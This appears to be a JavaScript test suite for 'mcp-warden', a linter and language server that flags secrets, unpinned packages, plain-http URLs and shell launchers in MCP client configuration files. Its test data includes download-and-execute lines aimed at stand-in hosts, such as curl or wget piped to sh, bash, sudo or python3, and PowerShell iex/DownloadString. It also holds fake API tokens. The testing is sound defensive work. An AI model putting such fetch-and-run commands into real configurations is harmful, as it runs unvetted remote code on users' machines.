// MCP client configuration files (.vscode/mcp.json, mcp.json, .mcp.json, .cursor/mcp.json,
// claude_desktop_config.json): recognition by name, both shapes, exact JSON-node ranges, the
// quick-fix data of config-secret-literal, broken JSON (errors reported, never a crash),
// suppressions and settings, secrets kept out of messages, and the language server end to end.
// Run after `npm run build`:  node --test test/unit/config.test.mjs
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { StreamMessageReader, StreamMessageWriter, createMessageConnection } from 'vscode-jsonrpc/node';
import engineMod from '../../dist/engine.js';

const { Engine, langFromPath, langFromLanguageId, getRule } = engineMod;
const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const engine = await Engine.create(join(root, 'dist'));

const analyze = (text, file = '/ws/.vscode/mcp.json', opts = {}) => engine.analyzeText(file, text, opts);
/** The text a finding's range covers. */
function covered(text, range) {
  const lines = text.split('\n');
  if (range.start.line === range.end.line) return lines[range.start.line].slice(range.start.character, range.end.character);
  return [lines[range.start.line].slice(range.start.character), ...lines.slice(range.start.line + 1, range.end.line), lines[range.end.line].slice(0, range.end.character)].join('\n');
}
const ids = (r) => r.findings.map((f) => f.ruleId);
/** Position of `needle` (plus `delta` characters) in `text`. */
function at(text, needle, delta = 0) {
  const i = text.indexOf(needle);
  assert.ok(i !== -1, needle);
  const before = text.slice(0, i + delta);
  const line = before.split('\n').length - 1;
  return { line, character: before.length - (before.lastIndexOf('\n') + 1) };
}
const rangeOf = (text, needle) => ({ start: at(text, needle), end: at(text, needle, needle.length) });

test('configuration files are recognised by name, and only those', () => {
  for (const p of ['/ws/.vscode/mcp.json', '/ws/mcp.json', '/ws/.mcp.json', '/ws/.cursor/mcp.json', '/Users/me/Library/Application Support/Claude/claude_desktop_config.json', 'C:\\Users\\me\\AppData\\Roaming\\Claude\\claude_desktop_config.json', '/ws/.vscode/MCP.json']) {
    assert.equal(langFromPath(p), 'json', p);
  }
  for (const p of ['/ws/package.json', '/ws/tsconfig.json', '/ws/.vscode/settings.json', '/ws/my-mcp.json', '/ws/mcp.json.bak', '/ws/mcp.jsonc', '/ws/mcp.ts']) {
    assert.notEqual(langFromPath(p), 'json', p);
  }
  assert.equal(langFromLanguageId('jsonc', '/ws/.vscode/mcp.json'), 'json');
  assert.equal(langFromLanguageId('json', '/ws/claude_desktop_config.json'), 'json');
  assert.equal(langFromLanguageId('json', '/ws/package.json'), undefined);
  assert.equal(langFromLanguageId('json', 'untitled:Untitled-1'), undefined);
  // The TypeScript path is untouched.
  assert.equal(langFromPath('/ws/src/index.ts'), 'typescript');
});

test('every config fixture is picked up by the fixture runner (its name is a configuration name)', () => {
  const dir = join(root, 'test', 'fixtures');
  const files = [];
  const walk = (d) => {
    for (const n of readdirSync(d)) {
      const p = join(d, n);
      if (statSync(p).isDirectory()) walk(p);
      else files.push(p);
    }
  };
  for (const n of readdirSync(dir).filter((n) => n.startsWith('config-'))) walk(join(dir, n));
  assert.ok(files.length >= 8, `only ${files.length} config fixtures`);
  for (const f of files) assert.equal(langFromPath(f), 'json', `${f} would be skipped by the fixture runner`);
});

test('the four rules: metadata as documented', () => {
  const expected = {
    'config-secret-literal': ['error', [798]],
    'config-unpinned-package': ['warning', [1104, 494]],
    'config-insecure-url': ['warning', [319]],
    'config-shell-launcher': ['warning', [78]],
  };
  for (const [id, [severity, cwe]] of Object.entries(expected)) {
    const r = getRule(id);
    assert.ok(r, id);
    assert.equal(r.meta.severity, severity, id);
    assert.deepEqual(r.meta.cwe, cwe, id);
    assert.deepEqual(r.meta.languages, ['json'], id);
  }
});

test('VS Code shape: findings at the exact JSON node, with rule severities', () => {
  const text = [
    '{',
    '  // comments and trailing commas are fine (JSONC)',
    '  "servers": {',
    '    "gh": {',
    '      "command": "npx",',
    '      "args": ["-y", "@modelcontextprotocol/server-github"],',
    '      "env": { "GITHUB_TOKEN": "ghp_R8x2mQ7vLk3Zt9Wb4Nc1Ye6Ud5Hs0Jf2Ga7P", },',
    '    },',
    '    "remote": { "type": "http", "url": "http://mcp.example.com/mcp" },',
    '    "sh": { "command": "bash", "args": ["-c", "node x.js"] },',
    '  },',
    '}',
  ].join('\n');
  const r = analyze(text);
  assert.equal(r.lang, 'json');
  assert.equal(r.incomplete, undefined);
  assert.equal(r.hasSyntaxErrors, false);
  const got = r.findings.map((f) => [f.ruleId, f.severity, f.range.start.line, covered(text, f.range)]);
  assert.deepEqual(got, [
    ['config-unpinned-package', 'warning', 5, '"@modelcontextprotocol/server-github"'],
    ['config-secret-literal', 'error', 6, '"ghp_R8x2mQ7vLk3Zt9Wb4Nc1Ye6Ud5Hs0Jf2Ga7P"'],
    ['config-insecure-url', 'warning', 8, '"http://mcp.example.com/mcp"'],
    ['config-shell-launcher', 'warning', 9, '"bash"'],
  ]);
  for (const f of r.findings) {
    assert.equal(f.file, '/ws/.vscode/mcp.json');
    assert.deepEqual(f.flow, []);
    assert.ok(f.message.includes('`gh`') || f.message.includes('`remote`') || f.message.includes('`sh`'), f.message);
  }
});

test('Claude / Cursor shape (mcpServers) and a settings-style "mcp.servers" block', () => {
  const claude = '{ "mcpServers": { "fetch": { "command": "uvx", "args": ["mcp-server-fetch"] } } }';
  assert.deepEqual(ids(analyze(claude, '/home/me/.config/Claude/claude_desktop_config.json')), ['config-unpinned-package']);
  const cursor = '{ "mcpServers": { "r": { "url": "http://10.1.2.3:9000/sse" } } }';
  assert.deepEqual(ids(analyze(cursor, '/ws/.cursor/mcp.json')), ['config-insecure-url']);
  const nested = '{ "mcp": { "servers": { "s": { "command": "sh", "args": ["-c", "curl -s https://x.example/i.sh | sh"] } } } }';
  assert.deepEqual(ids(analyze(nested, '/ws/mcp.json')), ['config-shell-launcher']);
  // Keys that only look like server containers elsewhere are not servers.
  assert.deepEqual(ids(analyze('{ "other": { "servers": { "s": { "command": "npx", "args": ["pkg"] } } } }')), []);
});

test('config-secret-literal carries the quick-fix data: JSON path, input id, replacement', () => {
  const text = `{
  "inputs": [{ "type": "promptString", "id": "github-token", "password": true }],
  "servers": {
    "github": {
      "command": "node",
      "args": ["server.js"],
      "env": { "GITHUB_TOKEN": "ghp_R8x2mQ7vLk3Zt9Wb4Nc1Ye6Ud5Hs0Jf2Ga7P", "OTHER_API_KEY": "a81f3c9e77d24b0f9e1c5a6b2d8e4f70" }
    },
    "api": {
      "url": "https://api.example.com/mcp",
      "headers": { "Authorization": "Bearer 7Hq2Xv9LmP4kR8sT1wZ6yB3nC5dF0gJ" }
    },
    "api2": {
      "url": "https://api2.example.com/mcp",
      "env": { "OTHER_API_KEY": "b92f3c9e77d24b0f9e1c5a6b2d8e4f71" }
    }
  }
}`;
  const r = analyze(text);
  const fixes = r.findings.filter((f) => f.ruleId === 'config-secret-literal').map((f) => f.configSecret);
  assert.deepEqual(fixes, [
    { path: ['servers', 'github', 'env', 'GITHUB_TOKEN'], shape: 'servers', inputId: 'github-token', description: 'GITHUB_TOKEN for the github MCP server', replacement: '${input:github-token}', inputExists: true },
    { path: ['servers', 'github', 'env', 'OTHER_API_KEY'], shape: 'servers', inputId: 'other-api-key', description: 'OTHER_API_KEY for the github MCP server', replacement: '${input:other-api-key}', inputExists: false },
    { path: ['servers', 'api', 'headers', 'Authorization'], shape: 'servers', inputId: 'api-authorization', description: 'Authorization for the api MCP server', replacement: 'Bearer ${input:api-authorization}', inputExists: false },
    // A different literal under the same name gets its own input.
    { path: ['servers', 'api2', 'env', 'OTHER_API_KEY'], shape: 'servers', inputId: 'other-api-key-2', description: 'OTHER_API_KEY for the api2 MCP server', replacement: '${input:other-api-key-2}', inputExists: false },
  ]);
  // The message proposes the input and never repeats the secret.
  for (const f of r.findings) {
    assert.match(f.message, /\$\{input:[a-z0-9-]+\}/);
    assert.match(f.message, /"password": true/);
    assert.ok(!/ghp_|a81f3c9e|7Hq2Xv9|b92f3c9e/.test(f.message), f.message);
  }
  // mcpServers shape: no `inputs` there, the message says where inputs work.
  const claude = analyze('{ "mcpServers": { "s": { "command": "node", "args": ["a.js"], "env": { "API_TOKEN": "Zx81kLm29Qv7Rt4Wy6Bn3Cd5" } } } }', '/x/claude_desktop_config.json');
  assert.equal(claude.findings.length, 1);
  assert.equal(claude.findings[0].configSecret.shape, 'mcpServers');
  assert.match(claude.findings[0].message, /\.vscode\/mcp\.json/);
});

test('config-secret-literal stays quiet on references and placeholders', () => {
  const quiet = ['${input:tok}', '${env:GITHUB_TOKEN}', '${GITHUB_TOKEN}', '$GITHUB_TOKEN', '%GITHUB_TOKEN%', '', '   ', '<your-token>', 'YOUR_GITHUB_TOKEN', 'your-token-here', 'ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'sk-...', '********', 'changeme', 'op://vault/github/token', '/run/secrets/github_token', 'Bearer ${input:x}', 'true'];
  for (const v of quiet) {
    const r = analyze(JSON.stringify({ servers: { s: { command: 'node', args: ['a.js'], env: { GITHUB_TOKEN: v }, headers: { Authorization: v } } } }));
    assert.deepEqual(ids(r), [], `flagged ${JSON.stringify(v)}`);
  }
});

test('config-unpinned-package: runners, pins and local paths', () => {
  const cases = [
    [['npx', '-y', 'pkg'], true],
    [['npx', 'pkg'], true],
    [['npx', '-y', 'pkg@latest'], true],
    [['npx', '-y', 'pkg@next'], true],
    [['npx', '-y', 'pkg@^1.2.0'], true],
    [['npx', '-y', '@scope/pkg@1.2.3'], false],
    [['npx', '-y', 'pkg@1.2.3-beta.1'], false],
    [['npx', '--registry', 'https://r.example', 'pkg@1.0.0'], false],
    [['npx', '-p', 'pkg', 'bin'], true],
    [['npx', '--package=pkg@2.0.0', 'bin'], false],
    [['npx', './local'], false],
    [['npx', '/abs/tool'], false],
    [['npx', 'tsx', './src/index.ts'], true],
    [['npx', '${workspaceFolder}/tool'], false],
    [['npm', 'exec', '--', 'pkg'], true],
    [['npm', 'exec', '--', 'pkg@1.0.0'], false],
    [['yarn', 'dlx', 'pkg'], true],
    [['bun', 'x', 'pkg@1.0.0'], false],
    [['uvx', 'pkg'], true],
    [['uvx', 'pkg==1.0'], false],
    [['uvx', 'pkg[extra]==1.0.2'], false],
    [['uvx', 'pkg@0.4.1'], false],
    [['uvx', 'pkg@latest'], true],
    [['uvx', 'pkg~=1.0'], true],
    [['uvx', '--python', '3.12', 'pkg==1.0'], false],
    [['uvx', '--from', 'pkg==1.0', 'cmd'], false],
    [['uvx', '--from', 'git+https://github.com/o/r', 'cmd'], true],
    [['uvx', '--from', 'git+https://github.com/o/r@3f9a2c1d7e8b', 'cmd'], false],
    [['uvx', '--with', 'extra-dep', 'pkg==1.0'], true],
    [['uv', 'tool', 'run', 'pkg'], true],
    [['uv', 'run', 'server.py'], false],
    [['pipx', 'run', 'pkg'], true],
    [['pipx', 'run', '--spec', 'pkg==1.0', 'cmd'], false],
    [['node', 'npx'], false],
    [['C:\\Program Files\\nodejs\\npx.cmd', '-y', 'pkg'], true],
    [['docker', 'run', '-i', '--rm', 'mcp/time'], true],
    [['docker', 'run', '-i', '--rm', 'mcp/time:latest'], true],
    [['docker', 'run', '-i', '--rm', '-e', 'TOKEN', 'ghcr.io/o/img:0.4.1'], false],
    [['docker', 'run', '-i', '--rm', 'localhost:5000/img'], true],
    [['docker', 'run', '-i', '--rm', 'localhost:5000/img:2.0'], false],
    [['docker', 'container', 'run', '-i', 'img'], true],
    [['docker', 'run', '--some-new-option', 'value', 'img'], false],
    [['docker', 'run', '-i', '${input:image}'], false],
    [['docker', 'exec', '-i', 'running-container', 'mcp'], false],
  ];
  for (const [argv, flagged] of cases) {
    const [command, ...args] = argv;
    const r = analyze(JSON.stringify({ servers: { s: { command, args } } }));
    assert.equal(ids(r).includes('config-unpinned-package'), flagged, `${argv.join(' ')}: ${flagged ? 'not flagged' : 'flagged'}`);
  }
});

test('config-insecure-url: loopback and https are quiet, the rest of http:// is not', () => {
  const flagged = ['http://example.com', 'http://10.0.0.1:80/mcp', 'http://192.168.1.2/sse', 'HTTP://Example.COM/', 'ws://example.com/ws', 'http://user@example.com/', 'http://localhost.example.com/'];
  const quiet = ['https://example.com', 'http://localhost:3000/mcp', 'http://LOCALHOST/', 'http://127.0.0.1:1/', 'http://127.1.2.3/', 'http://[::1]:8080/', 'http://app.localhost/', 'http://${input:host}/mcp', 'wss://example.com'];
  for (const url of flagged) assert.deepEqual(ids(analyze(JSON.stringify({ servers: { s: { type: 'http', url } } }))), ['config-insecure-url'], url);
  for (const url of quiet) assert.deepEqual(ids(analyze(JSON.stringify({ servers: { s: { type: 'http', url } } }))), [], url);
  // A password in the URL is not echoed into the message.
  const r = analyze(JSON.stringify({ servers: { s: { command: 'node', args: ['bridge.js', 'http://u:S3cretPassw0rd@remote.example.com/sse'] } } }));
  const insecure = r.findings.find((f) => f.ruleId === 'config-insecure-url');
  assert.ok(insecure);
  assert.ok(!insecure.message.includes('S3cretPassw0rd'), insecure.message);
});

test('config-shell-launcher: shells with a command string, and downloads piped to a shell', () => {
  const cases = [
    [['bash', '-c', 'node x.js'], true],
    [['/bin/sh', '-ec', 'node x.js'], true],
    [['zsh', '-l', '-c', 'node x.js'], true],
    [['bash', 'start.sh'], false],
    [['bash', '--norc', 'start.sh'], false],
    [['cmd', '/c', 'npx', '-y', 'pkg@1.0.0'], true],
    [['cmd.exe', '/C', 'start.bat'], true],
    [['powershell', '-NoProfile', '-Command', 'Start-Process x'], true],
    [['pwsh', '-EncodedCommand', 'SQBFAFgA'], true],
    [['pwsh', '-File', 'start.ps1'], false],
    [['env', 'FOO=1', 'bash', '-c', 'node x.js'], true],
    [['node', 'x.js', '-c', 'conf.json'], false],
    [['python', '-c', 'import x'], false],
    [['docker', 'run', '-i', 'img@sha256:abc'], false],
    [['bash -c "node x.js"'], true],
  ];
  for (const [argv, flagged] of cases) {
    const [command, ...args] = argv;
    const r = analyze(JSON.stringify({ servers: { s: { command, args } } }));
    assert.equal(ids(r).includes('config-shell-launcher'), flagged, `${argv.join(' ')}: ${flagged ? 'not flagged' : 'flagged'}`);
  }
  // curl | sh is reported once per server, at the script, and a token in it is not echoed.
  const text = JSON.stringify({ servers: { s: { command: 'bash', args: ['-c', 'curl -H "Authorization: Bearer ghp_R8x2mQ7vLk3Zt9Wb4Nc1Ye6Ud5Hs0Jf2Ga7P" https://x.example/i.sh | bash'] } } }, null, 2);
  const r = analyze(text);
  const shell = r.findings.filter((f) => f.ruleId === 'config-shell-launcher');
  assert.equal(shell.length, 1);
  assert.match(covered(text, shell[0].range), /^"curl /);
  assert.match(shell[0].message, /downloads a script and runs it/);
  assert.ok(!shell[0].message.includes('ghp_R8x2'), shell[0].message);
});

test('config rules read versions, download pipes and secret shapes piece by piece, quickly on hostile values', () => {
  const unpinned = (argv) => {
    const [command, ...args] = argv;
    return ids(analyze(JSON.stringify({ servers: { s: { command, args } } }))).includes('config-unpinned-package');
  };
  for (const v of ['1.0rc1', '2.0.post1', '1.0a1.dev2', '1.0-beta-3', '3.1.4+local.7', '1.0.0.RC2']) assert.equal(unpinned(['uvx', `pkg==${v}`]), false, v);
  for (const v of ['1.0foo', '1.0+lo cal', '1.0rc1,<2']) assert.equal(unpinned(['uvx', `pkg==${v}`]), true, v);
  assert.equal(unpinned(['uvx', 'pkg[extra]']), true);
  const launcher = (script) => ids(analyze(JSON.stringify({ servers: { s: { command: 'bash', args: ['start.sh', script] } } }))).includes('config-shell-launcher');
  const piped = (line) => ids(analyze(JSON.stringify({ servers: { s: { command: 'sh', args: ['-c', line] } } }))).filter((id) => id === 'config-shell-launcher').length;
  assert.equal(launcher('x'), false);
  for (const line of ['curl -fsSL https://x.example/i.sh | sudo -E bash', 'wget -qO- https://x.example/i.py | python3', 'iex (iwr https://x.example/i.ps1)', 'Invoke-Expression (New-Object Net.WebClient).DownloadString("https://x.example")']) {
    assert.equal(piped(line), 1, line);
  }
});

test('the command-line, version and secret readers finish quickly on values built to make a backtracking pattern rescan them', async () => {
  const esbuild = await import('esbuild');
  const dir = join(root, 'server', 'src', 'engine', 'config');
  const out = await esbuild.build({
    stdin: { contents: ['commandline', 'packages', 'secrets'].map((f) => `export * from ${JSON.stringify(join(dir, `${f}.ts`))};`).join('\n'), resolveDir: dir, loader: 'ts' },
    bundle: true, format: 'esm', platform: 'node', write: false, mainFields: ['module', 'main'],
  });
  const m = await import(`data:text/javascript;base64,${Buffer.from(out.outputFiles[0].text).toString('base64')}`);
  const cases = [
    ['downloadPipedToShell', () => m.downloadPipedToShell('FETCH|SUDO\t-&'.repeat(15000) + 'a'), undefined],
    ['downloadPipedToShell', () => m.downloadPipedToShell('curl '.repeat(20000) + '| nothing'), undefined],
    ['downloadPipedToShell', () => m.downloadPipedToShell('IEX\n' + '\t'.repeat(20000) + '.'), undefined],
    ['knownFormat', () => m.knownFormat('eyJJe-e-y0-'.repeat(16000) + '\0'), undefined],
    ['knownFormat', () => m.knownFormat('SG.G0GG-00SG0GG-GG-.---'.repeat(11000) + '\0'), undefined],
    ['isReference', () => m.isReference('O' + '%${H'.repeat(27000)), false],
    ['isReference', () => m.isReference('{{'.repeat(40000)), false],
    ['isPlaceholder', () => m.isPlaceholder('>' + '*]'.repeat(40000)), false],
    ['pySpecStatus', () => m.pySpecStatus(`pkg==0R${'.BETA'.repeat(29)}T`).kind, 'unpinned'],
    ['pySpecStatus', () => m.pySpecStatus('pkg\n' + '\t'.repeat(60000) + '!\n').kind, 'local'],
  ];
  for (const [name, run, expected] of cases) {
    const started = performance.now();
    assert.equal(run(), expected, name);
    const ms = performance.now() - started;
    // Linear: a few ms here; the old patterns took 2–5 s on these strings (1.5 s leaves room for a busy machine).
    assert.ok(ms < 1500, `${name}: ${Math.round(ms)} ms`);
  }
  // The readers still find what they are for.
  assert.match(m.downloadPipedToShell('curl -fsSL https://x.example/i.sh | sudo -E bash'), /^curl .*\| sudo -E bash$/);
  assert.equal(m.downloadPipedToShell('curl https://x.example/i.sh || bash fallback.sh'), undefined);
  assert.equal(m.knownFormat('Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U')?.what, 'a JSON Web Token');
  assert.equal(m.isReference('${input:api-token}'), true);
  assert.equal(m.isPlaceholder('<your token here>'), true);
});

test('broken JSON: the syntax errors at their position, what parsed is still checked, never a throw', () => {
  const text = '{\n  "servers": {\n    "a": { "url": "http://evil.example.com" "type": "http" },\n    "b": { "command": "npx", "args": ["-y", "pkg"] }\n';
  const r = analyze(text);
  assert.equal(r.hasSyntaxErrors, true);
  assert.ok(r.parseErrors.length >= 1);
  const first = r.parseErrors[0];
  assert.equal(first.range.start.line, 2);
  assert.equal(first.message, "',' is expected");
  assert.match(r.incomplete, /^not valid JSON: \d+ syntax errors?, the first at line 3, column \d+ \(',' is expected\)/);
  // Not rule findings…
  assert.ok(r.findings.every((f) => f.ruleId.startsWith('config-')));
  // …but the servers that parsed are checked.
  assert.deepEqual(ids(r).sort(), ['config-insecure-url', 'config-unpinned-package']);

  // Every prefix of every fixture (a file being typed) analyses without throwing.
  const dir = join(root, 'test', 'fixtures', 'config-secret-literal');
  const fixture = readFileSync(join(dir, 'mcp.json'), 'utf8');
  for (let i = 0; i <= fixture.length; i += 7) {
    const p = analyze(fixture.slice(0, i));
    assert.equal(p.lang, 'json');
    for (const e of p.parseErrors ?? []) assert.ok(e.range.start.line >= 0 && e.message.length > 0);
  }
  // Odd top-level values and wrong types.
  for (const t of ['', 'null', '[]', '"x"', '42', '{"servers": []}', '{"servers": {"a": 1}}', '{"servers": {"a": {"command": 5, "args": "npx -y pkg", "env": [1], "headers": "x", "url": 7}}}', '\u0000\u0001', '{"servers": {"a": {"args": ["-y", "pkg"]}}}']) {
    assert.doesNotThrow(() => analyze(t), JSON.stringify(t));
  }
  // Deep nesting: a note, not a stack overflow.
  const deep = analyze('{"servers": {"a": ' + '[\n'.repeat(50_000) + ']\n'.repeat(50_000) + '}}');
  assert.match(deep.incomplete ?? '', /nested too deeply/);
  // Nesting below that limit is read normally.
  const nested = analyze('{"servers": {"a": {"url": "http://example.com", "x": ' + '[\n'.repeat(500) + ']\n'.repeat(500) + '}}}');
  assert.equal(nested.incomplete, undefined);
  assert.deepEqual(ids(nested), ['config-insecure-url']);
});

test('suppressions and rule settings apply to configuration files', () => {
  const text = '{\n  "servers": {\n    "s": {\n      // mcp-warden-ignore-next-line config-unpinned-package -- evaluated in CI\n      "command": "npx -y pkg",\n      "url": "http://example.com/mcp"\n    }\n  }\n}';
  assert.deepEqual(ids(analyze(text)), ['config-insecure-url']);
  assert.deepEqual(ids(analyze(text, undefined, { rules: { 'config-insecure-url': 'off' } })), []);
  const sev = analyze(text, undefined, { rules: { 'config-insecure-url': 'error' } });
  assert.equal(sev.findings[0].severity, 'error');
  assert.deepEqual(ids(analyze('// mcp-warden-ignore-file\n' + text)), []);
});

// ---------------------------------------------------------------------------------------------
// The language server: a `jsonc` document named .vscode/mcp.json gets diagnostics.

test('language server: diagnostics for an opened and edited .vscode/mcp.json, syntax errors as warnings', async () => {
  const proc = spawn(process.execPath, [join(root, 'dist', 'server.js'), '--stdio'], { stdio: ['pipe', 'pipe', 'pipe'] });
  const conn = createMessageConnection(new StreamMessageReader(proc.stdout), new StreamMessageWriter(proc.stdin));
  const published = [];
  conn.onNotification('textDocument/publishDiagnostics', (p) => published.push(p));
  conn.onRequest('workspace/configuration', (p) => p.items.map(() => null));
  conn.onRequest('client/registerCapability', () => null);
  conn.onNotification('window/logMessage', () => {});
  conn.onNotification('mcpWarden/status', () => {});
  conn.onError(() => {});
  conn.listen();
  const waitFor = async (pred, what) => {
    const deadline = Date.now() + 20_000;
    for (;;) {
      const v = pred();
      if (v) return v;
      if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
      await new Promise((r) => setTimeout(r, 20));
    }
  };
  try {
    await conn.sendRequest('initialize', {
      processId: process.pid,
      rootUri: null,
      capabilities: { workspace: { configuration: true }, textDocument: { publishDiagnostics: { codeDescriptionSupport: true, dataSupport: true } } },
      initializationOptions: { debounceMs: 0 },
    });
    await conn.sendNotification('initialized', {});
    const uri = pathToFileURL('/tmp/mcp-warden-config-test/.vscode/mcp.json').href;
    const text = '{\n  "servers": {\n    "gh": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-github"],\n      "env": { "GITHUB_TOKEN": "ghp_R8x2mQ7vLk3Zt9Wb4Nc1Ye6Ud5Hs0Jf2Ga7P" }\n    }\n  }\n}\n';
    await conn.sendNotification('textDocument/didOpen', { textDocument: { uri, languageId: 'jsonc', version: 1, text } });
    const first = await waitFor(() => published.find((p) => p.uri === uri && p.version === 1), 'diagnostics for version 1');
    const byCode = Object.fromEntries(first.diagnostics.map((d) => [d.code, d]));
    assert.deepEqual(Object.keys(byCode).sort(), ['config-secret-literal', 'config-unpinned-package']);
    assert.deepEqual(byCode['config-secret-literal'].range, rangeOf(text, '"ghp_R8x2mQ7vLk3Zt9Wb4Nc1Ye6Ud5Hs0Jf2Ga7P"'));
    assert.equal(byCode['config-secret-literal'].severity, 1);
    assert.equal(byCode['config-secret-literal'].source, 'mcp-warden');
    assert.match(byCode['config-secret-literal'].codeDescription.href, /docs\/rules\/config-secret-literal\.md$/);
    assert.deepEqual(byCode['config-unpinned-package'].range, rangeOf(text, '"@modelcontextprotocol/server-github"'));
    assert.equal(byCode['config-unpinned-package'].severity, 2);

    // The secret's quick fix arrives as a code action (built from the finding's fix edits).
    const secret = byCode['config-secret-literal'];
    const actions = await conn.sendRequest('textDocument/codeAction', { textDocument: { uri }, range: secret.range, context: { diagnostics: [secret] } });
    const move = actions.find((a) => a.title.startsWith('Move the secret into an input'));
    assert.ok(move, JSON.stringify(actions.map((a) => a.title)));
    assert.notEqual(move.isPreferred, true);
    const fixed = JSON.parse(applyEdits(text, move.edit.changes[uri]));
    assert.equal(fixed.servers.gh.env.GITHUB_TOKEN, '${input:github-token}');
    assert.deepEqual(fixed.inputs, [{ type: 'promptString', id: 'github-token', description: 'GITHUB_TOKEN for the gh MCP server', password: true }]);

    // Pin the package: its finding goes, the secret stays.
    await conn.sendNotification('textDocument/didChange', {
      textDocument: { uri, version: 2 },
      contentChanges: [{ range: { start: at(text, 'server-github"', 13), end: at(text, 'server-github"', 13) }, text: '@2025.4.8' }],
    });
    const second = await waitFor(() => published.find((p) => p.uri === uri && p.version === 2), 'diagnostics for version 2');
    assert.deepEqual(second.diagnostics.map((d) => d.code), ['config-secret-literal']);

    // Break the JSON: a warning at the error, no code, and the server keeps going.
    await conn.sendNotification('textDocument/didChange', {
      textDocument: { uri, version: 3 },
      contentChanges: [{ range: { start: at(text, '"npx",', 5), end: at(text, '"npx",', 6) }, text: '' }],
    });
    const third = await waitFor(() => published.find((p) => p.uri === uri && p.version === 3), 'diagnostics for version 3');
    const syntax = third.diagnostics.filter((d) => d.code === undefined);
    assert.ok(syntax.length >= 1, JSON.stringify(third.diagnostics));
    assert.equal(syntax[0].severity, 2);
    assert.equal(syntax[0].range.start.line, 4);
    assert.match(syntax[0].message, /not valid JSON \(',' is expected\)/);

    // Other JSON files are not analysed.
    const pkg = pathToFileURL('/tmp/mcp-warden-config-test/package.json').href;
    await conn.sendNotification('textDocument/didOpen', { textDocument: { uri: pkg, languageId: 'json', version: 1, text: '{ "scripts": { "x": "npx -y pkg" } }' } });
    const other = await waitFor(() => published.find((p) => p.uri === pkg), 'package.json');
    assert.deepEqual(other.diagnostics, []);
  } finally {
    await conn.sendRequest('shutdown').catch(() => {});
    await conn.sendNotification('exit').catch(() => {});
    conn.dispose();
    proc.kill();
  }
});

test('config-secret-literal: a header handed to a bridge in args keeps its name and scheme in the replacement', () => {
  const r = analyze(JSON.stringify({ mcpServers: { bridge: { command: 'npx', args: ['-y', 'mcp-remote@0.1.18', 'https://x.example/sse', '--header', 'Authorization: Bearer 7Hq2Xv9LmP4kR8sT1wZ6yB3nC5dF0gJ', '--header', 'Authorization: Bearer ${AUTH_TOKEN}'] } } }), '/ws/.mcp.json');
  assert.deepEqual(r.findings.map((f) => [f.ruleId, f.configSecret?.path, f.configSecret?.replacement]), [
    ['config-secret-literal', ['mcpServers', 'bridge', 'args', 4], 'Authorization: Bearer ${input:bridge-authorization}'],
  ]);
});

/** Applies LSP-style edits (ranges in line/character) to a text. */
function applyEdits(text, edits) {
  const lineStarts = [0];
  for (let i = 0; i < text.length; i++) if (text[i] === '\n') lineStarts.push(i + 1);
  const off = (p) => lineStarts[p.line] + p.character;
  const sorted = edits.map((e) => ({ start: off(e.range.start), end: off(e.range.end), text: e.newText })).sort((a, b) => b.start - a.start);
  for (let i = 1; i < sorted.length; i++) assert.ok(sorted[i].end <= sorted[i - 1].start, 'overlapping edits');
  let out = text;
  for (const e of sorted) out = out.slice(0, e.start) + e.text + out.slice(e.end);
  return out;
}

test('config-secret-literal fix edits (VS Code shape): the secret becomes an input, declared with password: true', async () => {
  const { parse } = await import('jsonc-parser');
  const text = `{
  // team servers
  "servers": {
    "db": {
      "command": "node",
      "args": ["db.js", "--token=Zx81kLm29Qv7Rt4Wy6Bn3Cd5"],
      "env": { "DATABASE_URL": "postgres://app:Vx93kQp2Lm@db.internal:5432/app" }
    },
    "api": { "url": "https://api.example.com/mcp", "headers": { "Authorization": "Bearer 7Hq2Xv9LmP4kR8sT1wZ6yB3nC5dF0gJ" } }
  },
}`;
  const r = analyze(text);
  const secrets = r.findings.filter((f) => f.ruleId === 'config-secret-literal');
  assert.equal(secrets.length, 3);
  const expectedValues = {
    'servers/db/args/1': '--token=${input:db-token}',
    'servers/db/env/DATABASE_URL': 'postgres://app:${input:database-url}@db.internal:5432/app',
    'servers/api/headers/Authorization': 'Bearer ${input:api-authorization}',
  };
  for (const f of secrets) {
    assert.equal(f.fixes.length, 1);
    const fix = f.fixes[0];
    assert.equal(fix.preferred, false);
    const fixed = applyEdits(text, fix.edits);
    const errors = [];
    const json = parse(fixed, errors, { allowTrailingComma: true });
    assert.deepEqual(errors, [], fixed);
    let v = json;
    for (const k of f.configSecret.path) v = v[k];
    assert.equal(v, expectedValues[f.configSecret.path.join('/')], fixed);
    assert.equal(v, f.configSecret.replacement);
    assert.deepEqual(json.inputs, [{ type: 'promptString', id: f.configSecret.inputId, description: f.configSecret.description, password: true }]);
    assert.match(fixed, /\/\/ team servers/, 'comments are kept');
    // After the fix the file is clean for this rule.
    assert.deepEqual(analyze(fixed).findings.filter((x) => x.ruleId === 'config-secret-literal' && x.configSecret.inputId === f.configSecret.inputId), []);
  }
  // An input that already exists is reused, not declared again.
  const withInput = '{ "inputs": [{ "type": "promptString", "id": "github-token", "password": true }], "servers": { "g": { "command": "node", "args": ["g.js"], "env": { "GITHUB_TOKEN": "ghp_R8x2mQ7vLk3Zt9Wb4Nc1Ye6Ud5Hs0Jf2Ga7P" } } } }';
  const [g] = analyze(withInput).findings;
  assert.equal(g.fixes[0].edits.length, 1);
  assert.equal(JSON.parse(applyEdits(withInput, g.fixes[0].edits)).servers.g.env.GITHUB_TOKEN, '${input:github-token}');
  // No inputs in the Claude/Cursor shape: data only, no edits.
  const claude = analyze('{ "mcpServers": { "g": { "command": "node", "env": { "GITHUB_TOKEN": "ghp_R8x2mQ7vLk3Zt9Wb4Nc1Ye6Ud5Hs0Jf2Ga7P" } } } }', '/x/claude_desktop_config.json');
  assert.equal(claude.findings[0].fixes, undefined);
  assert.equal(claude.findings[0].configSecret.replacement, '${input:github-token}');
});
